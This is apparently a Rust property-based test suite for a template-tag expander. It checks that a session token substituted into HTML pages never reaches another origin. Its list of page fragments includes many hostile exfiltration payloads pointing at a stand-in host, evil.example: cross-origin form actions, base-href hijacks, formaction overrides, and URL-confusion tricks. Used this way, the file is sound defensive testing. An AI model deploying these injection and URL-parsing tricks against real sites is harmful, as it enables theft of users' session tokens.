//! Template tags in pages: however a page is built, the token they stand for goes nowhere but home.

#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

use std::borrow::Cow;
use std::cell::{Ref, RefCell};
use std::collections::HashMap;
use std::rc::Rc;

use edgegate::rewrite::tags::{Expander, Expansion, Places, Vocabulary};
use html5ever::interface::{ElementFlags, NodeOrText, QuirksMode, TreeSink};
use html5ever::tendril::{StrTendril, TendrilSink};
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{Attribute, ParseOpts, QualName, parse_document};
use markup5ever_rcdom::{Handle, Node, NodeData, RcDom};
use proptest::prelude::*;

const TOKEN: &str = "TOKEN-1.";
const PAGE: &str = "https://good.example/dir/page";

/// Pages for each run; `TAG_CASES` asks for more.
fn cases() -> ProptestConfig {
    let asked = std::env::var("TAG_CASES").ok().and_then(|text| text.parse().ok());
    ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(asked.unwrap_or(4096)) }
}

/// `S86:true` is the token, `S86` a field that holds it, `S1112:` an address at home with it, `T2:` any address.
#[derive(Debug, Clone, Copy)]
struct Tags;

impl Vocabulary for Tags {
    fn bracket(&mut self, tag: &str) -> Option<Expansion> {
        match tag.split_once(':') {
            None if tag == "S86" => {
                Some(Expansion::Markup(format!("<input type=\"hidden\" name=\"t\" value=\"{TOKEN}\">")))
            }
            None if tag == "S1" => Some(Expansion::Plain("Jo <O'Neil> & \"Co\"".to_owned())),
            Some(("S86", "true")) => Some(Expansion::Plain(TOKEN.to_owned())),
            Some(("S1112", address)) if address.starts_with("https://good.example/") => {
                Some(Expansion::Plain(format!("{address}?t={TOKEN}")))
            }
            Some(("T2", address)) => Some(Expansion::Plain(address.to_owned())),
            _ => None,
        }
    }

    fn is_address(&self, tag: &str) -> bool {
        tag.starts_with("S1112:") || tag.starts_with("T2:")
    }

    fn element_prefix(&self) -> &str {
        "convio:"
    }

    fn element(&mut self, name: &str, attributes: &[(&str, &str)]) -> Option<Expansion> {
        match (name, attributes) {
            ("convio:session", [("name", tag)]) => self.bracket(&format!("S{tag}")),
            ("convio:session", [("name", tag), ("param", param)]) => self.bracket(&format!("S{tag}:{param}")),
            _ => None,
        }
    }

    fn trusts(&self, scheme: &str, authority: &str) -> bool {
        scheme == "https" && authority == "good.example"
    }
}

/// Only `S86:true`, and its expansion can be undone.
struct TokenOnly;

impl Vocabulary for TokenOnly {
    fn bracket(&mut self, tag: &str) -> Option<Expansion> {
        (tag == "S86:true").then(|| Expansion::Plain(TOKEN.to_owned()))
    }

    fn trusts(&self, scheme: &str, authority: &str) -> bool {
        Tags.trusts(scheme, authority)
    }
}

struct Nothing;

impl Vocabulary for Nothing {
    fn bracket(&mut self, _: &str) -> Option<Expansion> {
        None
    }

    fn trusts(&self, _: &str, _: &str) -> bool {
        true
    }
}

const EVERYWHERE: Places = Places { script: true, style: true, comment: true };

fn expand(vocabulary: impl Vocabulary, places: Places, chunks: &[&[u8]]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut expander = Expander::new(vocabulary, places);
    chunks.iter().for_each(|chunk| expander.push(chunk, &mut out));
    expander.finish(&mut out);
    out
}

fn expand_text(vocabulary: impl Vocabulary, places: Places, page: &str) -> String {
    String::from_utf8(expand(vocabulary, places, &[page.as_bytes()])).unwrap()
}

/// A tree as browsers build it, with what a tree alone does not say: in which order elements came, and to
/// which form the parser gave them.
#[derive(Default)]
struct Browser {
    dom: RcDom,
    order: RefCell<Vec<Handle>>,
    owners: RefCell<HashMap<*const Node, Handle>>,
}

impl TreeSink for Browser {
    type Handle = Handle;
    type Output = Self;
    type ElemName<'a> = <RcDom as TreeSink>::ElemName<'a>;

    fn finish(self) -> Self {
        self
    }
    fn parse_error(&self, _: Cow<'static, str>) {}
    fn get_document(&self) -> Handle {
        self.dom.get_document()
    }
    fn elem_name<'a>(&'a self, target: &'a Handle) -> Self::ElemName<'a> {
        self.dom.elem_name(target)
    }
    fn create_element(&self, name: QualName, attrs: Vec<Attribute>, flags: ElementFlags) -> Handle {
        let element = self.dom.create_element(name, attrs, flags);
        self.order.borrow_mut().push(element.clone());
        element
    }
    fn create_comment(&self, text: StrTendril) -> Handle {
        self.dom.create_comment(text)
    }
    fn create_pi(&self, target: StrTendril, data: StrTendril) -> Handle {
        self.dom.create_pi(target, data)
    }
    fn append(&self, parent: &Handle, child: NodeOrText<Handle>) {
        self.dom.append(parent, child);
    }
    fn append_based_on_parent_node(&self, element: &Handle, previous: &Handle, child: NodeOrText<Handle>) {
        self.dom.append_based_on_parent_node(element, previous, child);
    }
    fn append_doctype_to_document(&self, name: StrTendril, public: StrTendril, system: StrTendril) {
        self.dom.append_doctype_to_document(name, public, system);
    }
    fn get_template_contents(&self, target: &Handle) -> Handle {
        self.dom.get_template_contents(target)
    }
    fn same_node(&self, one: &Handle, other: &Handle) -> bool {
        self.dom.same_node(one, other)
    }
    fn set_quirks_mode(&self, mode: QuirksMode) {
        self.dom.set_quirks_mode(mode);
    }
    fn append_before_sibling(&self, sibling: &Handle, node: NodeOrText<Handle>) {
        self.dom.append_before_sibling(sibling, node);
    }
    fn add_attrs_if_missing(&self, target: &Handle, attrs: Vec<Attribute>) {
        self.dom.add_attrs_if_missing(target, attrs);
    }
    fn associate_with_form(&self, target: &Handle, form: &Handle, _: (&Handle, Option<&Handle>)) {
        self.owners.borrow_mut().insert(Rc::as_ptr(target), form.clone());
    }
    fn remove_from_parent(&self, target: &Handle) {
        self.dom.remove_from_parent(target);
    }
    fn reparent_children(&self, node: &Handle, parent: &Handle) {
        self.dom.reparent_children(node, parent);
    }
    fn is_mathml_annotation_xml_integration_point(&self, target: &Handle) -> bool {
        self.dom.is_mathml_annotation_xml_integration_point(target)
    }
}

fn browse(page: &str, scripting_enabled: bool) -> Browser {
    let tree_builder = TreeBuilderOpts { scripting_enabled, ..Default::default() };
    parse_document(Browser::default(), ParseOpts { tree_builder, ..Default::default() }).one(page)
}

fn name(node: &Handle) -> &str {
    match &node.data {
        NodeData::Element { name, .. } => &name.local,
        _ => "",
    }
}

fn is_html(node: &Handle, local: &str) -> bool {
    matches!(&node.data, NodeData::Element { name, .. } if &*name.local == local && name.ns == html5ever::ns!(html))
}

fn attributes(node: &Handle) -> Option<Ref<'_, Vec<Attribute>>> {
    match &node.data {
        NodeData::Element { attrs, .. } => Some(attrs.borrow()),
        _ => None,
    }
}

fn attribute(node: &Handle, name: &str) -> Option<String> {
    let attributes = attributes(node)?;
    attributes.iter().find(|attribute| &*attribute.name.local == name).map(|attribute| attribute.value.to_string())
}

fn parent(node: &Handle) -> Option<Handle> {
    let weak = node.parent.take();
    let parent = weak.as_ref().and_then(std::rc::Weak::upgrade);
    node.parent.set(weak);
    parent
}

fn ancestors(node: &Handle) -> impl Iterator<Item = Handle> {
    std::iter::successors(Some(node.clone()), parent)
}

/// Every node with its parent, template contents included.
fn nodes(node: &Handle, all: &mut Vec<(Handle, Option<Handle>)>, above: Option<&Handle>) {
    all.push((node.clone(), above.cloned()));
    node.children.borrow().iter().for_each(|child| nodes(child, all, Some(node)));
    if let NodeData::Element { template_contents, .. } = &node.data
        && let Some(contents) = &*template_contents.borrow()
    {
        nodes(contents, all, Some(node));
    }
}

impl Browser {
    /// When an element came. One that the parser repeated came when its original did.
    fn came(&self, node: &Handle) -> usize {
        let order = self.order.borrow();
        let at = order.iter().position(|other| Rc::ptr_eq(other, node)).unwrap_or(usize::MAX);
        let Some(mark) = attribute(node, "n") else { return at };
        order.iter().position(|other| attribute(other, "n").as_ref() == Some(&mark)).unwrap_or(at)
    }

    /// Where an address in an element leads. A base that comes later would move it, which nobody can know
    /// who has sent the element already.
    fn resolve(&self, value: &str, came: usize) -> Option<url::Url> {
        let order = self.order.borrow();
        let page = url::Url::parse(PAGE).unwrap();
        let mut bases = order.iter().take(came).filter(|node| is_html(node, "base") && parent(node).is_some());
        let base = bases.find_map(|node| page.join(&attribute(node, "href")?).ok()).unwrap_or(page);
        base.join(value).ok()
    }

    fn is_elsewhere(&self, value: &str, came: usize) -> bool {
        self.resolve(value, came).is_some_and(|url| url.origin().ascii_serialization() != "https://good.example")
    }

    fn owner(&self, node: &Handle) -> Option<Handle> {
        if let Some(id) = attribute(node, "form") {
            let order = self.order.borrow();
            return order
                .iter()
                .find(|form| is_html(form, "form") && attribute(form, "id").as_ref() == Some(&id))
                .cloned();
        }
        let given = self.owners.borrow().get(&Rc::as_ptr(node)).cloned();
        given.or_else(|| ancestors(node).skip(1).find(|above| is_html(above, "form")))
    }

    /// Whether a form sends what came then elsewhere.
    fn sends_elsewhere(&self, form: &Handle, came: usize) -> bool {
        let action = attribute(form, "action").filter(|action| !action.is_empty());
        let by_action = action.is_some_and(|action| self.is_elsewhere(&action, self.came(form)));
        let order = self.order.borrow();
        let mut buttons = order.iter().filter(|node| is_html(node, "button") || is_html(node, "input"));
        by_action
            || buttons.any(|button| {
                let at = self.came(button);
                let action = attribute(button, "formaction").filter(|action| !action.is_empty());
                at < came
                    && action.is_some_and(|action| self.is_elsewhere(&action, at))
                    && self.owner(button).is_some_and(|owner| Rc::ptr_eq(&owner, form))
            })
    }

    /// The place where the token leaks.
    fn leak(&self) -> Option<String> {
        let mut all = Vec::new();
        nodes(&self.dom.document, &mut all, None);
        all.iter().find_map(|(node, above)| self.leak_at(node, above.as_ref()))
    }

    fn leak_at(&self, node: &Handle, above: Option<&Handle>) -> Option<String> {
        match &node.data {
            NodeData::Comment { contents } => contents.contains(TOKEN).then(|| "comment".to_owned()),
            NodeData::Text { contents } if contents.borrow().contains(TOKEN) => {
                let above = above.cloned()?;
                let holder = name(&above).to_owned();
                let is_dead = ["script", "style", "xmp", "iframe", "noembed", "noframes", "plaintext"];
                (is_dead.contains(&&*holder) || self.is_sent_elsewhere(&above, false))
                    .then(|| format!("text in {holder}"))
            }
            NodeData::Element { .. } => {
                let attributes = attributes(node)?;
                let mut holders = attributes.iter().filter(|attribute| attribute.value.contains(TOKEN));
                let came = self.came(node);
                holders.find_map(|holder| {
                    let (attribute, value) = (&*holder.name.local, &*holder.value);
                    let is_leak = is_never_for_tokens(name(node), attribute)
                        || self.is_sent_elsewhere(node, true)
                        || (is_address(attribute) && self.is_elsewhere(value, came))
                        || (is_absolute(value) && self.is_elsewhere(value, came));
                    is_leak.then(|| format!("{attribute} of {}: {value}", name(node)))
                })
            }
            _ => None,
        }
    }

    /// Whether it is in a form, or belongs to one, that is sent elsewhere.
    fn is_sent_elsewhere(&self, node: &Handle, by_attribute: bool) -> bool {
        let came = self.came(node);
        let is_control =
            |node: &Handle| ["input", "button", "select", "textarea"].iter().any(|local| is_html(node, local));
        ancestors(node).any(|above| {
            // What the parser repeats inside is no control, and came when nobody knew of the form.
            let is_form = is_html(&above, "form") && self.came(&above) < came && self.sends_elsewhere(&above, came);
            let holds_text = is_html(&above, "select") || is_html(&above, "textarea");
            let is_sent_with = holds_text || (by_attribute && Rc::ptr_eq(&above, node));
            let owner = self.owner(&above).filter(|_| is_control(&above) && is_sent_with && self.came(&above) <= came);
            is_form || owner.is_some_and(|form| self.sends_elsewhere(&form, came))
        })
    }
}

fn is_never_for_tokens(element: &str, attribute: &str) -> bool {
    attribute.starts_with("on")
        || ["style", "srcdoc", "srcset", "imagesrcset", "ping", "target", "formtarget", "form", "n"]
            .contains(&attribute)
        || ["meta", "base", "script", "style", "link"].contains(&element)
        || (["iframe", "frame", "embed", "object"].contains(&element) && !["src", "data"].contains(&attribute))
}

/// In any attribute, this will be used as an address.
fn is_absolute(value: &str) -> bool {
    let is_http = |url: url::Url| matches!(url.scheme(), "http" | "https" | "javascript" | "data");
    value.trim_start().starts_with("//") || url::Url::parse(value).is_ok_and(is_http)
}

fn is_address(attribute: &str) -> bool {
    let names = ["href", "src", "action", "formaction", "data", "poster", "cite", "background", "longdesc", "manifest"];
    names.contains(&attribute) || ["xlink:href", "lowsrc", "dynsrc", "usemap"].contains(&attribute)
}

/// A tree as text, all in one.
fn outline(browser: &Browser) -> String {
    let mut all = Vec::new();
    nodes(&browser.dom.document, &mut all, None);
    let lines = all.iter().map(|(node, _)| {
        let what = match &node.data {
            NodeData::Element { name, attrs, .. } => {
                let attrs = attrs.borrow();
                let attrs =
                    attrs.iter().map(|attribute| (attribute.name.local.to_string(), attribute.value.to_string()));
                format!("{} {} {:?}", name.ns, name.local, attrs.collect::<Vec<_>>())
            }
            NodeData::Text { contents } => contents.borrow().to_string(),
            NodeData::Comment { contents } => format!("comment {contents}"),
            _ => "document".to_owned(),
        };
        format!("{} {what}", ancestors(node).count())
    });
    lines.collect::<Vec<_>>().join("\n")
}

/// Pieces of hostile pages. `%` becomes a number, so that every element can be told from others.
const PIECES: &[&str] = &[
    "[[S86:true]]",
    "[[S86:true]]",
    "[[S86:true]]",
    "[[S86]]",
    "[[S86]]",
    "[[S1]]",
    "[[",
    "]]",
    "[",
    "[[x]]",
    "[[S1112:https://good.example/a]]",
    "[[S1112:https://evil.example/a]]",
    "[[T2:https://evil.example/]]",
    "<convio:session name=\"86\"/>",
    "<convio:session name=86 param='true' />",
    "<convio:session name=\"86\">",
    "<a n=% href=\"/a?t=[[S86:true]]\">",
    "<a n=% href='https://good.example/[[S86:true]]'>",
    "</a>",
    "<a n=% href=/a?t=[[S86:true]]>",
    "<A n=% HREF=\"https://evil.example/?[[S86:true]]\">",
    "<a n=% href=\"//evil.example/[[S86:true]]\">",
    "<a n=% href=\"/[[S86:true]]\">",
    "<a n=% href=\"[[S86:true]]\">",
    "<a n=% href=\"\\\\evil.example/?[[S86:true]]\">",
    "<a n=% href=\"https:/\\evil.example/?[[S86:true]]\">",
    "<a n=% href=\"ht\ttps://evil.example/?[[S86:true]]\">",
    "<a n=% href=\"&#104;ttps://evil.example/?[[S86:true]]\">",
    "<a n=% href=\"/&#9;/evil.example/?[[S86:true]]\">",
    "<a n=% href=\"https://good.example@evil.example/?[[S86:true]]\">",
    "<a n=% href=\"https://good.example&sol;.evil.example/?[[S86:true]]\">",
    "<a n=% href=\"a/[[S86:true]]\">",
    "<a n=% href=\"[[S1112:https://good.example/a]]\">",
    "<a n=% href=\"[[S1112:https://evil.example/a]]\">",
    "<a n=% href=\"[[T2:https://evil.example/]]\" title=\"[[S86:true]]\">",
    "<a n=% href=\"[[T2:https://evil.example/]]?[[S86:true]]\">",
    "<a n=% href=\"javascript:x?[[S86:true]]\">",
    "<a n=% href=\"mailto:a@evil.example?body=[[S86:true]]\">",
    "<a n=% data-u=\"https://evil.example/?[[S86:true]]\" title=\"[[S86:true]]\" target=\"[[S86:true]]\">",
    "<a n=% href=/ok href=\"https://evil.example/?[[S86:true]]\">",
    "<a n=% href=https://evil.example/?[[S86:true]] x>",
    "<img n=% src=\"https://evil.example/?[[S86:true]]\">",
    "<img n=% src='https://evil.example/?",
    "<img n=% src=\"//evil.example/?",
    "<img n=% srcset=\"/a?[[S86:true]] 1x\" alt=\"[[S86:true]]\">",
    "<img n=% src=\"/i?[[S86:true]]\" onerror=\"[[S86:true]]\">",
    "<image n=% src=\"https://evil.example/?[[S86:true]]\">",
    "<video n=% poster=\"https://evil.example/?[[S86:true]]\">",
    "<form n=% action=\"https://evil.example/\">",
    "<form n=% action=\"https://evil.example/\">",
    "<form n=% action=\"https://evil.example/\" id=f>",
    "<form n=%>",
    "<form n=% action=/a>",
    "<form n=% action=\"/a\" id=f>",
    "<form n=% action=\"[[T2:https://evil.example/]]\">",
    "<form n=% action=/a action=\"https://evil.example/\">",
    "<form n=% action=\"https://evil.example/\" action=/a>",
    "<form n=% action=\"[[S1112:https://good.example/a]]\">",
    "<form n=% action=\"&#104;ttps://evil.example/\">",
    "<form n=% action=\"\thttps://evil.example/\">",
    "<FORM n=% ACTION=//evil.example/>",
    "</form>",
    "</form>",
    "</form>",
    "</FORM >",
    "<input n=% value=\"[[S86:true]]\">",
    "<input n=% value=\"[[S86:true]]\">",
    "<input n=% form=f value=\"[[S86:true]]\">",
    "<input n=% type=submit formaction=\"https://evil.example/\">",
    "<input n=% type=image src=\"/i\" formaction=\"/a?[[S86:true]]\">",
    "<button n=% formaction=\"//evil.example/?[[S86:true]]\">",
    "<button n=% form=f formaction=\"https://evil.example/\">",
    "</button>",
    "<textarea n=%>",
    "<textarea n=%>[[S86:true]]</textarea>",
    "<textarea n=% form=f>[[S86:true]]</textarea>",
    "</textarea>",
    "<select n=%>",
    "<select n=%><option>[[S86:true]]</select>",
    "<select n=% form=f>",
    "<option n=% value=\"[[S86:true]]\">",
    "</select>",
    "<base n=% href=\"https://evil.example/\">",
    "<base n=% href=\"/\">",
    "<base n=%>",
    "<base n=% href=\"//evil.example/\" target=\"[[S86:true]]\">",
    "<meta n=% http-equiv=refresh content=\"0;url=/?[[S86:true]]\">",
    "<link n=% rel=stylesheet href=\"/a?[[S86:true]]\">",
    "<iframe n=% src=\"/a?[[S86:true]]\" name=\"[[S86:true]]\">",
    "</iframe>",
    "<iframe n=% srcdoc=\"[[S86:true]]\">",
    "<object n=% data=\"/a?[[S86:true]]\">",
    "</object>",
    "<embed n=% src=\"https://evil.example/?[[S86:true]]\">",
    "<frameset n=%>",
    "<frame n=% src=\"https://evil.example/?[[S86:true]]\">",
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    "<!--->",
    "<!-- [[S86:true]] -->",
    "<!x [[S86:true]]>",
    "<?x ",
    "</ [[S86:true]]>",
    "</>",
    "<!---",
    "<!doctype html>",
    "--",
    "-",
    "!",
    "<script n=%>",
    "</script>",
    "<script n=%>[[S86:true]]</script>",
    "<!--<script>",
    "<style n=%>",
    "</style>",
    "<style n=%>[[S86:true]]</style>",
    "<title n=%>",
    "</title>",
    "<xmp n=%>",
    "</xmp>",
    "<noembed n=%>",
    "</noembed>",
    "<noframes n=%>",
    "</noframes>",
    "<noscript n=%>",
    "</noscript>",
    "<svg n=%>",
    "</svg>",
    "<svg n=%/>",
    "<math n=%>",
    "</math>",
    "<mtext n=%>",
    "</mtext>",
    "<desc n=%>",
    "</desc>",
    "<foreignObject n=%>",
    "</foreignObject>",
    "<![CDATA[",
    "]]>",
    "<svg n=%><title n=%>",
    "<svg n=%><style n=%>",
    "<svg n=%><image n=% href=\"https://evil.example/?[[S86:true]]\">",
    "<annotation-xml n=% encoding=text/html>",
    "<template n=%>",
    "</template>",
    "<div n=%>",
    "</div>",
    "<div n=%>",
    "</div>",
    "<p n=%>",
    "</p>",
    "<b n=%>",
    "</b>",
    "<i n=%>",
    "</i>",
    "<x n=%>",
    "</x>",
    "<li n=%>",
    "<span n=% title='[[S86:true]]'>",
    "</span>",
    "<table n=%>",
    "</table>",
    "<tr n=%>",
    "<td n=%>",
    "</td>",
    "</tr>",
    "<caption n=%>",
    "<body n=% background=\"https://evil.example/?[[S86:true]]\">",
    "</body>",
    "<html n=%>",
    "</html>",
    "<head n=%>",
    "</head>",
    "\"",
    "'",
    ">",
    "<",
    "/",
    "=",
    " ",
    "\n",
    "x",
    "&",
    "&quot;",
    "&#60;",
    "\0",
    "é",
    "text",
    "/>",
    "</",
    "<p title=\"",
    "<p title='",
    "<p title=",
    "<div/",
    "https://evil.example/?",
];

fn page() -> impl Strategy<Value = String> {
    let once = prop::collection::vec(prop::sample::select(PIECES), 1..14);
    // Few pieces, often: what takes many steps is found sooner.
    let few = prop::collection::vec(prop::sample::select(PIECES), 3..9);
    let again = (few, prop::collection::vec(any::<prop::sample::Index>(), 4..24))
        .prop_map(|(few, picks)| picks.iter().map(|pick| *pick.get(&few)).collect::<Vec<_>>());
    prop_oneof![once, again].prop_map(|pieces| {
        let pieces = pieces.concat();
        let mut parts = pieces.split("n=%");
        let first = parts.next().unwrap_or_default().to_owned();
        parts.enumerate().fold(first, |page, (number, part)| format!("{page}n={number}{part}"))
    })
}

fn assert_no_leak(page: &str) -> Result<(), TestCaseError> {
    let output = expand_text(Tags, Places::default(), page);
    for scripting in [true, false] {
        let leak = browse(&output, scripting).leak();
        prop_assert_eq!(leak, None, "scripting {}\n{}\n{}", scripting, page, output);
    }
    Ok(())
}

proptest! {
    #![proptest_config(cases())]

    #[test]
    fn the_token_goes_nowhere_but_home(page in page()) {
        assert_no_leak(&page)?;
    }

    #[test]
    fn an_expanded_page_is_read_as_it_was(page in page()) {
        let output = expand_text(TokenOnly, EVERYWHERE, &page);
        for scripting in [true, false] {
            let undone = outline(&browse(&output, scripting)).replace(TOKEN, "[[S86:true]]");
            prop_assert_eq!(undone, outline(&browse(&page, scripting)), "{}\n{}", page, output);
        }
    }

    #[test]
    fn chunks_make_no_difference(page in page(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)) {
        let bytes = page.as_bytes();
        let whole = expand(Tags, EVERYWHERE, &[bytes]);
        let single: Vec<&[u8]> = bytes.chunks(1).collect();
        prop_assert_eq!(&expand(Tags, EVERYWHERE, &single), &whole, "{}", page);
        let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).chain([0, bytes.len()]).collect();
        at.sort_unstable();
        let pieces: Vec<&[u8]> = at.windows(2).map(|pair| &bytes[pair[0]..pair[1]]).collect();
        prop_assert_eq!(&expand(Tags, EVERYWHERE, &pieces), &whole, "{}", page);
    }

    #[test]
    fn what_is_not_known_is_left(page in page(), noise in prop::collection::vec(any::<u8>(), 0..64)) {
        let bytes = [page.as_bytes(), &noise, page.as_bytes()].concat();
        prop_assert_eq!(&expand(Nothing, EVERYWHERE, &[&bytes]), &bytes);
    }

    #[test]
    fn bytes_without_tags_are_left(bytes in prop::collection::vec(any::<u8>(), 0..256), size in 1..9_usize) {
        let chunks: Vec<&[u8]> = bytes.chunks(size).collect();
        prop_assert_eq!(&expand(Tags, EVERYWHERE, &chunks), &bytes);
    }
}

/// Each also byte by byte.
#[test]
fn the_named_cases_hold() {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/tags.json")).unwrap();
    let cases: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    assert!(cases.len() > 100);
    let mut wrong = Vec::new();
    for case in &cases {
        let text = |key: &str| case[key].as_str().unwrap();
        let places = if case["everywhere"] == true { EVERYWHERE } else { Places::default() };
        let page = text("page").as_bytes();
        let whole = expand(Tags, places, &[page]);
        let bytes: Vec<&[u8]> = page.chunks(1).collect();
        assert_eq!(expand(Tags, places, &bytes), whole, "{}", text("name"));
        if places == Places::default() {
            let output = String::from_utf8(whole.clone()).unwrap();
            let leaks = [true, false].map(|scripting| browse(&output, scripting).leak());
            assert_eq!(leaks, [None, None], "{}: {output}", text("name"));
        }
        if whole != text("expected").as_bytes() {
            wrong.push(format!("{}: {}", text("name"), String::from_utf8_lossy(&whole)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// `%` is an attribute that makes the tag too long to be kept.
#[test]
fn a_long_tag_is_judged_by_its_name() {
    let elsewhere = "\"https://evil.example/\"";
    let token = "[[S86:true]]";
    for (page, expanded) in [
        (format!("<img %>{token}<p title=\"{token}\">"), 2),
        (format!("<p % title=\"{token}\" x=\"%>\">{token}"), 1),
        (format!("<textarea %>{token}</textarea>{token}"), 1),
        (format!("<title %>{token}<p></title %>{token}"), 2),
        (format!("<form % action={elsewhere}>{token}<input value=\"{token}\"></form>"), 0),
        (format!("<base % href={elsewhere}><a href=\"/?{token}\">"), 0),
        (format!("<form action=/><button % formaction={elsewhere}></button>{token}</form>"), 0),
        (format!("<button % form=f formaction={elsewhere}></button><form id=f action=/>{token}</form>"), 0),
        (format!("<select % form=f><option value=\"{token}\"></select>"), 0),
        (format!("<form action={elsewhere}><svg %/><x/></svg></form><input value=\"{token}\">"), 0),
        (format!("<noscript><p % title=\"</noscript><form action=/>\">{token}"), 0),
        (format!("<svg><![CDATA[ % ]]></svg>{token}"), 0),
        ("<convio:session name=\"86\" %/>".to_owned(), 0),
    ] {
        let long = page.replacen('%', &format!("y=\"{}>\"", "x".repeat(16 * 1024)), 1).replace('%', "z");
        let output = expand(Tags, Places::default(), &[long.as_bytes()]);
        for size in [1, 1000, 16 * 1024] {
            let chunks: Vec<&[u8]> = long.as_bytes().chunks(size).collect();
            assert_eq!(expand(Tags, Places::default(), &chunks), output, "{page}");
        }
        let output = String::from_utf8(output).unwrap();
        assert_eq!(output.matches(TOKEN).count(), expanded, "{page}");
        assert_eq!(browse(&output, true).leak().or_else(|| browse(&output, false).leak()), None, "{page}");
    }
}
